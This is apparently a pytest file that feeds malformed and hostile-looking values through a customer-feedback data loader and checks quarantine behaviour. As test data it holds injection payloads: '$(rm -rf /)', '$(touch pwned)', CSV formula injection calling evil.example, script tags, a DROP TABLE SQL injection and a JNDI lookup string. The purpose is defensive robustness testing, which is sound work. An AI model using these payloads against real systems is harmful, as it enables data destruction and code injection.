"""The bad-input corpus (issue 16): every source and format, each bad value of each field.

Each case is one export file holding a good row and a bad one (for notes, a bad front matter
turns down every bullet of the note). The case passes when the quarantine holds exactly the bad
row, naming the file, the record and the field with the reason a person can act on, and the
file's good row loaded. Files have odd names (spaces, quotes, `$(...)`, a newline, globs).
Text that only looks dangerous (formulas, HTML, SQL, template syntax) is held up: it loads as
written and nothing is quarantined.

All cases share one inbox and one load per source, so hundreds of cases cost a few seconds.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from flows.sources import SOURCES
from flows.sources.dates import DATE_FORMATS_HELP
from flows.sources.loader import load_source
from flows.warehouse.connection import open_warehouse
from flows.warehouse.schema import apply_schema

LOADED_AT = datetime(2026, 11, 20, 3, 0, 0)
UNREADABLE = f"is not a date/time we can read ({DATE_FORMATS_HELP})"

# (bad value, reason after the field name)
EMAILS = [
    ("not-an-email", "is not an email address"),
    ("a@b", "is not an email address"),
    ("a b@acme.io", "is not an email address"),
    ("<a@acme.io>", "is not an email address"),
    ("a@acme.io;b@acme.io", "is not an email address"),
    ("a@@acme.io", "is not an email address"),
    ("@acme.io", "is not an email address"),
]
TIMESTAMPS = [
    ("yesterday", UNREADABLE),
    ("13/04/2026", UNREADABLE),
    ("04/11/26", UNREADABLE),
    ("31/02/2026 25:61", UNREADABLE),
    ("2026-13-01", UNREADABLE),
    ("2026-02-30T10:00:00Z", UNREADABLE),
    ("2026-11-03T25:00:00Z", UNREADABLE),
    ("1/2/3", UNREADABLE),
]
FUTURE = [("2099-01-01T00:00:00Z", "is in the future")]
DATES = [("13/04/2026", UNREADABLE), ("2026-02-30", UNREADABLE), ("next week", UNREADABLE)]
EMPTY = [("", "is empty"), ("   ", "is empty")]
TEXT = [
    ("nul \x00 byte", "contains a NUL byte"),
    ("x" * 100_001, "is longer than 100000 characters"),
]


def ints(low: int, high: int) -> list[tuple[str, str]]:
    return [
        (str(high + 1), f"is above {high}"),
        (str(low - 1), f"is below {low}"),
        ("n/a", "is not a number"),
        ("7.5", "is not a whole number"),
        ("ten", "is not a number"),
        ("0x10", "is not a number"),
        ("inf", "is not a number"),
        ("nan", "is not a number"),
    ]


MONEY = [
    ("-5", "is below 0"),
    ("abc", "is not a number"),
    ("412.000,00", "is not a number"),
    ("inf", "is not a number"),
    ("1 2", "is not a number"),
]


def choices(allowed: str) -> list[tuple[str, str]]:
    return [(bad, f"must be one of {allowed}") for bad in ("Platinum", "n/a", "unknown value")]


# --- Writers: rows named like the raw columns -> (file suffix, bytes) ---------------------------


def csv_bytes(headers: dict[str, str], rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(headers.values())
    for row in rows:
        writer.writerow([row.get(field, "") for field in headers])
    return out.getvalue().encode("utf-8")


ACCOUNT_HEADERS = {
    "account_id": "Account ID", "account_name": "Account Name", "website": "Website",
    "tier": "Tier", "arr": "ARR", "renewal_date": "Renewal Date", "csm_name": "CSM Name",
    "csm_email": "CSM Email", "contact_name": "Primary Contact Name",
    "contact_email": "Primary Contact Email",
}  # fmt: skip
NPS_HEADERS = {
    "response_id": "Response ID", "email": "Email", "score": "Score", "comment": "Comment",
    "responded_at": "Responded At", "survey_id": "Survey ID", "ces_score": "CES",
    "csat_score": "CSAT",
}  # fmt: skip
TICKET_HEADERS = {
    "ticket_id": "Id", "requester_name": "Requester", "requester_email": "Requester email",
    "subject": "Subject", "description": "Description", "status": "Status",
    "priority": "Priority", "tags": "Tags", "created_at": "Created at", "updated_at": "Updated at",
    "satisfaction_score": "Satisfaction Score", "satisfaction_comment": "Satisfaction Comment",
}  # fmt: skip
ROADMAP_HEADERS = {
    "item_id": "Item ID", "title": "Title", "theme_keywords": "Theme Keywords",
    "status": "Status", "effort": "Effort", "created_at": "Created At",
    "target_date": "Target Date", "shipped_at": "Shipped At",
}  # fmt: skip


def ticket_page(rows: list[dict[str, str]]) -> bytes:
    tickets, users = [], []
    for number, row in enumerate(rows, start=1):
        tickets.append(
            {
                "id": row["ticket_id"], "subject": row["subject"],
                "description": row["description"], "priority": row["priority"],
                "status": row["status"], "tags": ["export"], "requester_id": number,
                "created_at": row["created_at"], "updated_at": row["updated_at"],
                "satisfaction_rating": {"score": row["satisfaction_score"], "comment": "ok"},
            }
        )  # fmt: skip
        users.append({"id": number, "name": "Priya", "email": row["requester_email"]})
    return json.dumps({"tickets": tickets, "users": users, "end_time": 1762077612}).encode()


def widget_lines(rows: list[dict[str, str]]) -> bytes:
    lines = [
        json.dumps(
            {
                "event": "feedback.submitted",
                "id": row["event_id"],
                "account_id": "001A",
                "user": {"email": row["user_email"], "name": "Sam"},
                "message": row["message"],
                "page_url": "https://app.example.com/x",
                "created_at": row["created_at"],
            }
        )
        for row in rows
    ]
    return ("\n".join(lines) + "\n").encode()


def note(rows: list[dict[str, str]]) -> bytes:
    meta = rows[0]
    front = (
        f"---\naccount: {json.dumps(meta['account_id'])}\ntype: {json.dumps(meta['note_type'])}\n"
        f"date: {json.dumps(meta['note_date'])}\nauthor: {json.dumps(meta['author_email'])}\n---\n"
    )
    bullets = "".join(f"- {row['item_text']}\n" for row in rows)
    return (front + "# Feedback\n" + bullets).encode()


def jira(rows: list[dict[str, str]]) -> bytes:
    issues = [
        {
            "key": row["item_id"],
            "fields": {
                "summary": row["title"],
                "labels": ["export"],
                "status": {"name": row["status"]},
                "customfield_10016": row["effort"],
                "created": row["created_at"],
                "duedate": row["target_date"],
                "resolutiondate": row["shipped_at"],
            },
        }
        for row in rows
    ]
    return json.dumps({"issues": issues}).encode()


def linear(rows: list[dict[str, str]]) -> bytes:
    nodes = [
        {
            "identifier": row["item_id"],
            "title": row["title"],
            "labels": {"nodes": [{"name": "export"}]},
            "state": {"name": row["status"]},
            "estimate": row["effort"],
            "createdAt": row["created_at"],
            "dueDate": row["target_date"],
            "completedAt": row["shipped_at"],
        }
        for row in rows
    ]
    return json.dumps({"data": {"issues": {"nodes": nodes}}}).encode()


def productboard(rows: list[dict[str, str]]) -> bytes:
    features = [
        {
            "id": row["item_id"],
            "name": row["title"],
            "tags": ["export"],
            "status": {"name": row["status"]},
            "effort": row["effort"],
            "createdAt": row["created_at"],
            "timeframe": {"endDate": row["target_date"]},
            "releasedAt": row["shipped_at"],
        }
        for row in rows
    ]
    return json.dumps({"data": features}).encode()


@dataclass(frozen=True)
class Format:
    source: str
    name: str
    suffix: str
    write: Callable[[list[dict[str, str]]], bytes]
    good: Callable[[int], dict[str, str]]
    # Fields of one whole document (notes' front matter): a bad one turns down every row.
    shared: tuple[str, ...] = ()


def good_account(n: int) -> dict[str, str]:
    return {
        "account_id": f"a{n}", "account_name": f"Acme {n}", "website": "acme.io", "tier": "SMB",
        "arr": "1000", "renewal_date": "2027-01-31", "csm_name": "Dana",
        "csm_email": "dana@lk.io", "contact_name": "Priya", "contact_email": f"p{n}@acme.io",
    }  # fmt: skip


def good_response(n: int) -> dict[str, str]:
    return {
        "response_id": f"r{n}", "email": f"p{n}@acme.io", "score": "9",
        "comment": f"fine {n}", "responded_at": "2026-11-03T10:00:00Z", "survey_id": "s1",
        "ces_score": "2", "csat_score": "4",
    }  # fmt: skip


def good_ticket(n: int) -> dict[str, str]:
    return {
        "ticket_id": str(5000 + n), "requester_name": "Priya", "requester_email": f"p{n}@acme.io",
        "subject": f"Export {n}", "description": "Slow export", "status": "open",
        "priority": "high", "tags": "export", "created_at": "2026-11-02T09:00:00Z",
        "updated_at": "2026-11-02T10:00:00Z", "satisfaction_score": "good",
        "satisfaction_comment": "ok",
    }  # fmt: skip


def good_event(n: int) -> dict[str, str]:
    return {
        "event_id": f"w{n}", "user_email": f"s{n}@acme.io", "message": f"Shortcuts please {n}",
        "created_at": "2026-11-04T16:03:11Z",
    }  # fmt: skip


def good_bullet(n: int) -> dict[str, str]:
    return {
        "account_id": "001A", "note_type": "qbr", "note_date": "2026-10-28",
        "author_email": "dana@lk.io", "item_text": f"SCIM provisioning wanted {n}",
    }  # fmt: skip


def good_item(n: int) -> dict[str, str]:
    return {
        "item_id": f"RM-{n}", "title": f"Excel export {n}", "theme_keywords": "export",
        "status": "planned", "effort": "3", "created_at": "2026-06-01",
        "target_date": "2026-12-15", "shipped_at": "",
    }  # fmt: skip


FORMATS = {
    "accounts csv": Format("accounts", "accounts csv", ".csv", lambda rows: csv_bytes(ACCOUNT_HEADERS, rows), good_account),
    "nps csv": Format("nps", "nps csv", ".csv", lambda rows: csv_bytes(NPS_HEADERS, rows), good_response),
    "zendesk page": Format("tickets", "zendesk page", ".json", ticket_page, good_ticket),
    "zendesk csv": Format("tickets", "zendesk csv", ".csv", lambda rows: csv_bytes(TICKET_HEADERS, rows), good_ticket),
    "widget jsonl": Format("widget", "widget jsonl", ".jsonl", widget_lines, good_event),
    "notes md": Format("notes", "notes md", ".md", note, good_bullet, shared=("account_id", "note_type", "note_date", "author_email")),
    "roadmap csv": Format("roadmap", "roadmap csv", ".csv", lambda rows: csv_bytes(ROADMAP_HEADERS, rows), good_item),
    "jira json": Format("roadmap", "jira json", ".json", jira, good_item),
    "linear json": Format("roadmap", "linear json", ".json", linear, good_item),
    "productboard json": Format("roadmap", "productboard json", ".json", productboard, good_item),
}  # fmt: skip

ROADMAP_STATUS = "planned, in progress, shipped, declined"
TICKET_STATUS = "new, open, pending, hold, solved, closed"
ROADMAP_BAD = (
    [("status", v, r) for v, r in choices(ROADMAP_STATUS)]
    + [("effort", v, r) for v, r in MONEY[:3]]
    + [(f, v, r) for f in ("created_at", "shipped_at") for v, r in DATES]
    + [("created_at", "2099-01-01", "is in the future")]
    + [("target_date", v, r) for v, r in DATES[:2]]
    + [("item_id", "", "is empty"), ("title", "", "is empty")]
)
TICKET_BAD = (
    [("status", v, r) for v, r in choices(TICKET_STATUS)]
    + [("priority", v, r) for v, r in choices("low, normal, high, urgent")]
    + [
        ("satisfaction_score", v, r)
        for v, r in choices("good, bad, offered, unoffered, not offered")
    ]
    + [(f, v, r) for f in ("created_at", "updated_at") for v, r in TIMESTAMPS + FUTURE]
    + [("requester_email", v, r) for v, r in EMAILS]
    + [("description", v, r) for v, r in TEXT]
    + [("ticket_id", "", "is empty")]
)
BAD: dict[str, list[tuple[str, str, str]]] = {
    "accounts csv": (
        [(f, v, r) for f in ("account_id", "account_name", "tier", "arr") for v, r in EMPTY]
        + [("tier", v, r) for v, r in choices("Enterprise, Mid-Market, SMB")]
        + [("arr", v, r) for v, r in MONEY]
        + [("renewal_date", v, r) for v, r in DATES]
        + [(f, v, r) for f in ("csm_email", "contact_email") for v, r in EMAILS]
        + [("account_name", "nul \x00 byte", "contains a NUL byte")]
    ),
    "nps csv": (
        [(f, v, r) for f in ("response_id", "email", "score", "responded_at") for v, r in EMPTY]
        + [("score", v, r) for v, r in ints(0, 10)]
        + [("ces_score", v, r) for v, r in ints(1, 7)[:4]]
        + [("csat_score", v, r) for v, r in ints(1, 5)[:4]]
        + [("responded_at", v, r) for v, r in TIMESTAMPS + FUTURE]
        + [("email", v, r) for v, r in EMAILS]
        + [("comment", v, r) for v, r in TEXT]
    ),
    "zendesk page": TICKET_BAD,
    "zendesk csv": [c for c in TICKET_BAD if c[0] not in ("requester_email",)][:30]
    + [("requester_email", v, r) for v, r in EMAILS[:3]],
    "widget jsonl": (
        [(f, v, r) for f in ("event_id", "message", "created_at") for v, r in EMPTY]
        + [("created_at", v, r) for v, r in TIMESTAMPS + FUTURE]
        + [("user_email", v, r) for v, r in EMAILS]
        + [("message", v, r) for v, r in TEXT]
    ),
    "notes md": (
        [("account_id", "", "is empty"), ("note_date", "", "is empty")]
        + [("note_type", v, r) for v, r in choices("qbr, csm_call")]
        + [("note_date", v, r) for v, r in DATES]
        + [("note_date", "2099-01-01", "is in the future")]
        + [("author_email", v, r) for v, r in EMAILS[:4]]
        + [("item_text", "nul \x00 byte", "contains a NUL byte")]
    ),
    "roadmap csv": ROADMAP_BAD,
    "jira json": ROADMAP_BAD[:8],
    "linear json": ROADMAP_BAD[3:11],
    "productboard json": ROADMAP_BAD[:6],
}

# File names people and tools produce; the loader must keep and name them exactly.
STEMS = [
    "plain", "with space", "ünïcødé", "quote'single", 'quote"double', "-leading-dash",
    "semi;colon", "$(touch pwned)", "new\nline", "tab\there", "emoji 📨", "percent%20",
    "back\\slash", "glob*star?[x]", "CON", "trailing dot.",
]  # fmt: skip


@dataclass(frozen=True)
class Case:
    format: str
    field: str
    value: str
    reason: str
    file: str
    id: str


def _cases() -> list[Case]:
    out = []
    for name, bad in BAD.items():
        fmt = FORMATS[name]
        for number, (field, value, why) in enumerate(bad):
            stem = STEMS[len(out) % len(STEMS)]
            shown = value if len(value) < 30 else f"{value[:10]}...({len(value)} chars)"
            out.append(
                Case(
                    name,
                    field,
                    value,
                    f"{field} {why}",
                    f"{fmt.source}/{stem} {len(out):03d}{fmt.suffix}",
                    f"{name} {field} {shown!r} #{number}",
                )
            )
    return out


CASES = _cases()


def expected_record(case: Case) -> int:
    """Where the bad row is: the second data row, line or list item; in a note, its bullets."""
    if case.format == "notes md":
        # 6 lines of front matter, the heading, then the bullets (a bad front matter: only one).
        return 8 if case.field in FORMATS[case.format].shared else 9
    return 2


def _write(inbox: Path, case: Case, index: int) -> None:
    fmt = FORMATS[case.format]
    good, bad = fmt.good(2 * index), fmt.good(2 * index + 1)
    bad[case.field] = case.value
    if case.field in fmt.shared:
        good[case.field] = case.value
        rows = [bad]  # one bullet: the whole note is turned down
    else:
        rows = [good, bad]
    path = inbox / case.file
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(fmt.write(rows))


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    inbox = tmp_path_factory.mktemp("corpus") / "inbox"
    for index, case in enumerate(CASES):
        _write(inbox, case, index)
    for index, (name, field, value) in enumerate(HELD_UP):
        fmt = FORMATS[name]
        rows = [fmt.good(10_000 + 2 * index), fmt.good(10_001 + 2 * index)]
        rows[1][field] = value
        path = inbox / fmt.source / f"held {index:03d}{fmt.suffix}"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(fmt.write(rows))
    with open_warehouse(Path(":memory:")) as con:
        apply_schema(con)
        for source in SOURCES:
            load_source(con, inbox, source, loaded_at=LOADED_AT)
        quarantined: dict[str, list[tuple[int, str, str]]] = {}
        for file, record, field, reason in con.execute(
            "select file, record, field, reason from raw._quarantine order by file, record"
        ).fetchall():
            quarantined.setdefault(file, []).append((record, field, reason))
        loaded: dict[str, int] = {}
        stored: dict[tuple[str, str], list[str]] = {}
        for source in SOURCES:
            for file, n in con.execute(
                f"select _file, count(*) from raw.{source.table} group by 1"
            ).fetchall():
                loaded[file] = n
            for field in {f for name, f, _ in HELD_UP if FORMATS[name].source == source.name}:
                for file, value in con.execute(
                    f"select _file, \"{field}\" from raw.{source.table} where _file like '%held%'"
                ).fetchall():
                    stored.setdefault((file, field), []).append(value)
    return {"quarantined": quarantined, "loaded": loaded, "stored": stored}


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id) for c in CASES])
def test_a_bad_value_is_quarantined_naming_file_record_and_field(
    corpus: dict[str, Any], case: Case
) -> None:
    fmt = FORMATS[case.format]
    assert corpus["quarantined"].get(case.file) == [
        (expected_record(case), case.field, case.reason)
    ]
    good = 0 if case.field in fmt.shared else 1
    assert corpus["loaded"].get(case.file, 0) == good, "the file's good row must load"


# Text that looks dangerous somewhere else (a spreadsheet, a browser, a shell, SQL, a template
# engine) is still a customer's words here: it loads exactly as written.
LOOKS_DANGEROUS = [
    '=HYPERLINK("http://evil.example","click")', "+SUM(A1:A9)", "-2+3", "@cmd|' /C calc'!A0",
    "<script>alert(1)</script>", "<b>bold</b> &amp; <img src=x onerror=alert(1)>",
    "Robert'); DROP TABLE raw.nps_responses;--", "{{7*7}} ${jndi:ldap://x/a}", "$(rm -rf /)",
    "\u202eevil.exe", "zero\u200bwidth", "emoji 😀👍🏽", "مرحبا بالعالم", "日本語のフィードバック",
]  # fmt: skip
HELD_UP = [
    (name, field, value)
    for name, field in (
        ("nps csv", "comment"),
        ("zendesk page", "description"),
        ("widget jsonl", "message"),
        ("roadmap csv", "title"),
        ("accounts csv", "account_name"),
    )
    for value in LOOKS_DANGEROUS
]


@pytest.mark.parametrize(
    ("index", "name", "field", "value"),
    [
        pytest.param(i, *held, id=f"{held[0]} {held[1]} {held[2]!r}")
        for i, held in enumerate(HELD_UP)
    ],
)
def test_text_that_looks_dangerous_loads_as_written(
    corpus: dict[str, Any], index: int, name: str, field: str, value: str
) -> None:
    fmt = FORMATS[name]
    file = f"{fmt.source}/held {index:03d}{fmt.suffix}"
    assert corpus["quarantined"].get(file) is None
    assert corpus["loaded"].get(file) == 2
    assert value in corpus["stored"][(file, field)]


def test_the_corpus_covers_every_source_with_at_least_200_bad_inputs() -> None:
    per_source: dict[str, int] = {}
    for case in CASES:
        source = FORMATS[case.format].source
        per_source[source] = per_source.get(source, 0) + 1
    assert set(per_source) == {s.name for s in SOURCES}
    assert len(CASES) >= 200, per_source
